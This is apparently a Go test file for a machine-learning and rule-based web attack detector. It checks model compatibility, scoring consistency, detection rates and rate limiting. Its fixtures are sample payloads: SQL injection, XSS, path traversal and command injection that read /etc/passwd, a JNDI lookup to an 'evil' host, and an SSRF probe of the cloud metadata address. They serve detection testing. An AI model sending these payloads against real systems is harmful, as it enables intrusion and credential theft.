package score_test

import (
	"context"
	"encoding/json"
	"math"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"apiml/features"
	"apiml/generate"
	"apiml/model"
	"apiml/model/catalog"
	"apiml/score"
	"apiml/score/builtin"
	"apiml/traffic"
)

// builtinConfig decodes the built-in models.
func builtinConfig(t testing.TB) score.Config {
	t.Helper()
	cfg := score.Config{Threshold: 0.5, AnomalyThreshold: 0.5, Reasons: 3}
	for _, name := range []string{"attack_classifier.apiml", "anomaly_detector.apiml"} {
		b, err := builtin.File(name)
		if err != nil {
			t.Fatal(err)
		}
		f, err := model.ReadFile(b)
		if err != nil {
			t.Fatal(err)
		}
		m, err := catalog.Decode(f)
		if err != nil {
			t.Fatal(err)
		}
		state, err := f.U8("features.state")
		if err != nil {
			t.Fatal(err)
		}
		if cfg.State, err = features.ParseState(state); err != nil {
			t.Fatal(err)
		}
		switch m := m.(type) {
		case model.Classifier:
			cfg.Attack = m
		case model.Detector:
			cfg.Anomaly = m
		}
	}
	return cfg
}

// TestBuiltin: the built-in models fit this program. `make pretrained` makes
// them anew after a change of the features or the generator.
func TestBuiltin(t *testing.T) {
	names, err := builtin.Names()
	if err != nil {
		t.Fatal(err)
	}
	total := int64(0)
	for _, n := range names {
		b, err := builtin.File(n)
		if err != nil {
			t.Fatal(err)
		}
		packed, err := os.Stat(filepath.Join("builtin", n+builtin.Extension))
		if err != nil {
			t.Fatal(err)
		}
		total += packed.Size()
		f, err := model.ReadFile(b)
		if err != nil {
			t.Fatalf("%s: %v", n, err)
		}
		want := f.Header.Schema.ID() // forecast and cache: no columns that could change
		switch f.Header.Name {
		case "attack", "anomaly":
			b, err := f.U8("features.state")
			if err != nil {
				t.Fatal(err)
			}
			state, err := features.ParseState(b)
			if err != nil {
				t.Fatalf("%s: %v: run make pretrained", n, err)
			}
			if state.Text() == nil {
				t.Errorf("%s has no text model", n)
			}
			want = features.HTTPSchema(features.Online(state.Text())).ID()
			if f.Header.Name == "attack" {
				testConduct(t, f)
			}
		case "behavior":
			want = features.BehaviorSchema().ID()
		case "latency":
			b, err := f.U8("features.state")
			if err != nil {
				t.Fatal(err)
			}
			state, err := features.ParseLatencyState(b)
			if err != nil {
				t.Fatalf("%s: %v: run make pretrained", n, err)
			}
			want = features.LatencySchema(state).ID()
		}
		if _, err := catalog.Decode(f); err != nil {
			t.Errorf("%s: %v", n, err)
		}
		if got := f.Header.Schema.ID(); got != want {
			t.Errorf("%s was fitted on %s, this program computes %s: run make pretrained", n, got, want)
		}
		if want := generate.Version; !strings.Contains(f.Header.Data.Source, want) || !f.Header.Data.Synthetic {
			t.Errorf("%s was fitted on %q, the generator is %s: run make pretrained", n, f.Header.Data.Source, want)
		}
		if len(f.Header.Metrics) == 0 {
			t.Errorf("%s carries no metrics", n)
		}
		if name := f.Header.Name; (name == "attack" || name == "anomaly") && len(f.Header.Thresholds) == 0 {
			t.Errorf("%s carries no threshold", n)
		}
	}
	if len(names) != 6 || total > builtin.MaxBytes {
		t.Errorf("%d built-in files of %d bytes, at most %d are allowed", len(names), total, builtin.MaxBytes)
	}
}

// testConduct: the classifier brings one of conduct that fits this program.
func testConduct(t *testing.T, f *model.File) {
	t.Helper()
	b, err := f.U8("conduct.model")
	if err != nil {
		t.Fatal(err)
	}
	c, err := model.ReadFile(b)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := catalog.Decode(c); err != nil {
		t.Error(err)
	}
	if got, want := c.Header.Schema.ID(), features.ConductSchema().ID(); got != want {
		t.Errorf("the classifier of conduct was fitted on %s, this program computes %s: run make pretrained", got, want)
	}
}

func traffic5k(t testing.TB, seed uint64) []traffic.Request {
	t.Helper()
	var out []traffic.Request
	err := generate.Run(context.Background(), generate.Config{Seed: seed, Normal: 8000, Attacks: 2000}, func(reqs []traffic.Request, _ []string) error {
		for _, r := range reqs {
			r.File, r.Line = "t.log", int64(len(out)+1)
			out = append(out, r)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return out
}

// scored runs a stream in pieces of n.
func scored(t testing.TB, cfg score.Config, reqs []traffic.Request, n int) ([]score.Result, *score.Scorer) {
	t.Helper()
	s, err := score.New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	var out []score.Result
	keep := func(rs []score.Result) error { out = append(out, rs...); return nil }
	for len(reqs) > 0 {
		k := min(n, len(reqs))
		if err := s.Push(append([]traffic.Request(nil), reqs[:k]...), keep); err != nil {
			t.Fatal(err)
		}
		reqs = reqs[k:]
	}
	if err := s.Flush(keep); err != nil {
		t.Fatal(err)
	}
	return out, s
}

// TestPieces: how a stream is cut into batches changes no byte, and nothing is
// lost or made up.
func TestPieces(t *testing.T) {
	reqs := traffic5k(t, 21)
	cfg := builtinConfig(t)
	var first []byte
	for _, n := range []int{1 << 20, 4096, 777, 5000} {
		rs, s := scored(t, cfg, reqs, n)
		if len(rs) != len(reqs) {
			t.Fatalf("%d results of %d requests", len(rs), len(reqs))
		}
		b, err := json.Marshal(rs)
		if err != nil {
			t.Fatal(err)
		}
		if first == nil {
			first = b
		} else if string(b) != string(first) {
			t.Errorf("pieces of %d give other results", n)
		}
		check(t, rs, s)
	}
}

// check compares the summary with the results.
func check(t *testing.T, rs []score.Result, s *score.Scorer) {
	t.Helper()
	sum := s.Summary()
	var flagged, ruled, tp, fp, fn int64
	byClass := map[string]int64{}
	incidents := map[string]int64{}
	for i := range rs {
		r := &rs[i]
		if r.Probability < 0 || r.Probability > 1 || r.Anomaly < 0 || r.Anomaly > 1 {
			t.Fatalf("probability %v, anomaly %v", r.Probability, r.Anomaly)
		}
		if r.Flagged() != (r.Probability >= sum.Threshold) || r.Flagged() != (r.Incident != "") || r.Flagged() != (len(r.Reasons) > 0) {
			t.Fatalf("flagged, probability, incident and reasons disagree: %+v", r)
		}
		for j := 1; j < len(r.Reasons); j++ {
			if r.Reasons[j].Contribution > r.Reasons[j-1].Contribution {
				t.Fatalf("reasons out of order: %+v", r.Reasons)
			}
		}
		if r.Flagged() {
			flagged++
			byClass[r.Class]++
			incidents[r.Incident]++
		}
		if len(r.Rules) > 0 {
			ruled++
		}
		switch {
		case r.Truth == traffic.Unlabelled:
		case r.Flagged() && r.Truth.Attack():
			tp++
		case r.Flagged():
			fp++
		case r.Truth.Attack():
			fn++
		}
	}
	if sum.Requests != int64(len(rs)) || sum.Flagged != flagged || sum.RuleHits != ruled || sum.TruePositives != tp || sum.FalsePositives != fp || sum.FalseNegatives != fn || !reflect.DeepEqual(sum.ByClass, byClass) {
		t.Errorf("summary %+v does not count what the results say", sum)
	}
	for _, in := range s.Incidents() {
		if in.Requests != incidents[in.ID] || len(in.Samples) == 0 || in.First > in.Last {
			t.Errorf("incident %+v, %d results", in, incidents[in.ID])
		}
		delete(incidents, in.ID)
	}
	if len(incidents) > 0 {
		t.Errorf("incidents missing: %v", incidents)
	}
}

// TestFindsAttacks: on generated traffic of a seed that the models have not seen
// they find most attacks and spare most of the rest.
func TestFindsAttacks(t *testing.T) {
	cfg := builtinConfig(t)
	_, s := scored(t, cfg, traffic5k(t, 4711), 4096)
	sum := s.Summary()
	recall := float64(sum.TruePositives) / float64(sum.TruePositives+sum.FalseNegatives)
	fpr := float64(sum.FalsePositives) / 8000
	if recall < 0.6 || fpr > 0.03 {
		t.Errorf("recall %.3f, false-positive rate %.4f", recall, fpr)
	}
}

// TestOwnDetector: a detector fitted with another state gets features of its own.
func TestOwnDetector(t *testing.T) {
	reqs := traffic5k(t, 5)
	b := features.NewBuilder(features.Config{Profile: features.Frozen})
	b.Add(append([]traffic.Request(nil), reqs...))
	ds, err := b.Dataset()
	if err != nil {
		t.Fatal(err)
	}
	rows := make([]int, ds.Rows())
	for i := range rows {
		rows[i] = i
	}
	fold, err := ds.Fold(t.Context(), rows, nil)
	if err != nil {
		t.Fatal(err)
	}
	specs, err := catalog.Resolve([]string{"anomaly"})
	if err != nil {
		t.Fatal(err)
	}
	m, err := specs[0].Fit(t.Context(), fold.Fit, json.RawMessage(`{"trees":20}`), model.FitOptions{Seed: 1})
	if err != nil {
		t.Fatal(err)
	}
	cfg := builtinConfig(t)
	plain, _ := scored(t, cfg, reqs, 4096)
	cfg.Anomaly = m.(model.Detector)
	if _, err := score.New(cfg); err == nil {
		t.Error("a detector of other features was accepted")
	}
	cfg.AnomalyState = fold.State
	own, _ := scored(t, cfg, reqs, 4096)
	same := true
	for i := range own {
		if own[i].Probability != plain[i].Probability {
			t.Fatal("the detector's state changed the classifier's result")
		}
		same = same && own[i].Anomaly == plain[i].Anomaly
	}
	if same {
		t.Error("another detector gave the same scores")
	}
}

// TestSeen: rows that the model was fitted on are scored, but not counted
// against the truth.
func TestSeen(t *testing.T) {
	reqs := traffic5k(t, 9)
	seen := map[uint64]bool{}
	for i := range reqs[:4000] {
		seen[features.RowHash(&reqs[i])] = true
	}
	cfg := builtinConfig(t)
	cfg.Seen = func(h uint64) bool { return seen[h] }
	_, s := scored(t, cfg, reqs, 4096)
	sum := s.Summary()
	if sum.Requests != 10000 || sum.SeenInTraining < 4000 || sum.Labelled+sum.SeenInTraining != 10000 {
		t.Errorf("%+v", sum)
	}
}

// TestObviousAttacks: what everybody tries first, on a log of a few lines, is
// found by the built-in models at their own threshold; honest look-alikes are not.
func TestObviousAttacks(t *testing.T) {
	cfg := builtinConfig(t)
	cfg.Threshold = 0.82
	attacks := []string{
		"/?q=%27%20or%201=1--", "/items?id=1+UNION+SELECT+user,password+FROM+users", "/search?q=<script>alert(1)</script>",
		"/download?file=../../../../etc/passwd", "/ping?host=127.0.0.1;cat+/etc/passwd", "/x?u=${jndi:ldap://evil/a}",
	}
	honest := []string{"/search?q=O%27Brien", "/api/users/17", "/plans?note=select+a+plan+from+our+union", "/search?q=drop-off+near+me", "/a?next=https%3A%2F%2Fexample.org%2Fb%3Fc%3Dd", "/"}
	var reqs []traffic.Request
	for i, target := range append(attacks, honest...) {
		reqs = append(reqs, traffic.Request{Time: int64(1767607200+i) * 1e6, Method: "GET", Target: target, Protocol: "HTTP/1.1", Status: 200, BytesOut: 512, BytesIn: -1, Latency: -1, Client: "192.0.2." + string(rune('1'+i%9)), Agent: "Mozilla/5.0"})
	}
	rs, _ := scored(t, cfg, reqs, 100)
	for i, r := range rs {
		if r.Flagged() != (i < len(attacks)) {
			t.Errorf("%s: probability %.3f, class %s, rules %v", r.Target, r.Probability, r.Class, r.Rules)
		}
	}
}

// TestSignatureOdds regenerates the figures behind signatureOdds (7.7): how often
// attacks and benign requests of generated traffic hit a signature rule, and the
// square root of their ratio. Run with -v to see them.
func TestSignatureOdds(t *testing.T) {
	var hits, rows [2]float64 // benign, attack
	for seed := uint64(101); seed < 104; seed++ {
		rules := score.NewRules(score.RateLimit{Requests: 100, Per: time.Minute})
		err := generate.Run(t.Context(), generate.Config{Seed: seed, Normal: 16000, Attacks: 4000}, func(reqs []traffic.Request, _ []string) error {
			for i := range reqs {
				kind := 0
				if reqs[i].Label.Attack() {
					kind = 1
				}
				rows[kind]++
				names, _ := rules.Check(&reqs[i])
				if slices.ContainsFunc(names, score.IsSignature) {
					hits[kind]++
				}
			}
			return nil
		})
		if err != nil {
			t.Fatal(err)
		}
	}
	attack, benign := hits[1]/rows[1], hits[0]/rows[0]
	root := math.Sqrt(attack / benign)
	t.Logf("%.3f of the attacks, %.4f of the benign requests, square root of the ratio %.2f", attack, benign, root)
	if root < 6.2 || root > 9.2 {
		t.Errorf("the square root of the likelihood ratio is %.2f: signatureOdds no longer says what it claims", root)
	}
}

func TestNewRefuses(t *testing.T) {
	good := builtinConfig(t)
	for name, spoil := range map[string]func(*score.Config){
		"no classifier": func(c *score.Config) { c.Attack = nil },
		"no state":      func(c *score.Config) { c.State = nil },
		"threshold 0":   func(c *score.Config) { c.Threshold = 0 },
		"threshold 2":   func(c *score.Config) { c.Threshold = 2 },
	} {
		c := good
		spoil(&c)
		if _, err := score.New(c); err == nil {
			t.Errorf("%s: accepted", name)
		}
	}
}

// TestEmitError: an error of the receiver comes back.
func TestEmitError(t *testing.T) {
	s, err := score.New(builtinConfig(t))
	if err != nil {
		t.Fatal(err)
	}
	stop := context.Canceled
	emit := func([]score.Result) error { return stop }
	if err := s.Push(traffic5k(t, 3), emit); err == nil {
		if err = s.Flush(emit); err == nil {
			t.Error("the error was lost")
		}
	}
}

func TestRules(t *testing.T) {
	limit := score.RateLimit{Requests: 100, Per: time.Minute}
	for _, c := range []struct {
		target, body, agent string
		rule                string
		class               traffic.Label
	}{
		{"/api/users?name=O%27Brien", "", "curl/8", "", traffic.None},
		{"/search?q=select+a+plan+from+our+union", "", "curl/8", "", traffic.None},
		{"/api/items?id=1%27%20OR%20%271%27=%271", "", "curl/8", "libinjection-sqli", traffic.SQLInjection},
		{"/api/items?id=1%2527%2520union%2520select%25201", "", "curl/8", "libinjection-sqli", traffic.SQLInjection},
		{"/c?text=%3Cscript%3Ealert(1)%3C/script%3E", "", "curl/8", "libinjection-xss", traffic.XSS},
		{"/file?name=../../../../etc/passwd", "", "curl/8", "path-traversal", traffic.PathTraversal},
		{"/ping?host=127.0.0.1;id", "", "curl/8", "command-injection", traffic.CommandInjection},
		{"/api/login", "user=a&pass=%27%20or%201=1--", "curl/8", "libinjection-sqli", traffic.SQLInjection},
		{"/api/x", `{"v":"${jndi:ldap://a/b}"}`, "curl/8", "template-injection", traffic.CommandInjection},
		{"/.env", "", "curl/8", "scanner-path", traffic.Scanner},
		{"/wp-config.php.bak", "", "curl/8", "scanner-path", traffic.Scanner},
		{"/", "", "sqlmap/1.7", "scanner-agent", traffic.Scanner},
		{"/fetch?url=http://169.254.169.254/latest/meta-data", "", "curl/8", "ssrf-target", traffic.OtherAttack},
	} {
		r := traffic.Request{Method: "GET", Target: c.target, Body: c.body, HasBody: c.body != "", Agent: c.agent, Time: traffic.NoTime, Status: 200}
		rules, class := score.NewRules(limit).Check(&r)
		if class != c.class || c.rule != "" && (len(rules) == 0 || rules[0] != c.rule) || c.rule == "" && len(rules) > 0 {
			t.Errorf("%s %s %s: %v %v, want %s %v", c.target, c.body, c.agent, rules, class, c.rule, c.class)
		}
	}
}

// TestRuleBuckets: the buckets leak over event time.
func TestRuleBuckets(t *testing.T) {
	ru := score.NewRules(score.RateLimit{Requests: 10, Per: time.Minute})
	at := func(s float64, status int32, target string) ([]string, traffic.Label) {
		return ru.Check(&traffic.Request{Method: "POST", Target: target, Client: "192.0.2.1", Status: status, Time: int64(s * 1e6)})
	}
	for i := range 10 {
		if rules, _ := at(float64(i)*0.001, 200, "/a"); len(rules) > 0 {
			t.Fatalf("request %d is over the limit: %v", i, rules)
		}
	}
	if rules, class := at(0.5, 200, "/a"); len(rules) != 1 || rules[0] != "rate-limit" || class != traffic.APIAbuse {
		t.Errorf("the 11th request: %v %v", rules, class)
	}
	if rules, _ := at(120, 200, "/a"); len(rules) > 0 {
		t.Errorf("two minutes later: %v", rules)
	}
	var last []string
	for i := range 11 {
		last, _ = at(300+float64(i)*2, 401, "/api/login")
	}
	if len(last) != 1 || last[0] != "login-failures" {
		t.Errorf("the 11th failed login: %v", last)
	}
}

func TestParseRateLimit(t *testing.T) {
	for text, want := range map[string]score.RateLimit{
		"100/minute": {Requests: 100, Per: time.Minute}, "5/s": {Requests: 5, Per: time.Second}, "20/10s": {Requests: 20, Per: 10 * time.Second}, "1/day": {Requests: 1, Per: 24 * time.Hour},
	} {
		if got, err := score.ParseRateLimit(text); err != nil || got != want {
			t.Errorf("%s: %v, %v", text, got, err)
		}
	}
	for _, text := range []string{"", "100", "0/minute", "-1/minute", "many/minute", "5/fortnight", "5/-1s"} {
		if _, err := score.ParseRateLimit(text); err == nil {
			t.Errorf("%q was accepted", text)
		}
	}
}

// FuzzRules: no text crashes the rules, and the answer does not depend on what
// came before.
func FuzzRules(f *testing.F) {
	f.Add("/a?b=%27", "x=1")
	f.Add("/%%%", `{"a":`)
	f.Fuzz(func(t *testing.T, target, body string) {
		r := traffic.Request{Target: target, Body: body, HasBody: true, Time: traffic.NoTime}
		ru := score.NewRules(score.RateLimit{Requests: 100, Per: time.Minute})
		first, c1 := ru.Check(&r)
		again, c2 := ru.Check(&r)
		if !reflect.DeepEqual(first, again) || c1 != c2 || (len(first) == 0) != (c1 == traffic.None) {
			t.Errorf("%v %v, then %v %v", first, c1, again, c2)
		}
	})
}

func BenchmarkScore(b *testing.B) {
	cfg := builtinConfig(b)
	reqs := traffic5k(b, 2)
	b.ResetTimer()
	for range b.N {
		scored(b, cfg, reqs, 4096)
	}
	b.ReportMetric(float64(len(reqs))*float64(b.N)/b.Elapsed().Seconds(), "requests/s")
}
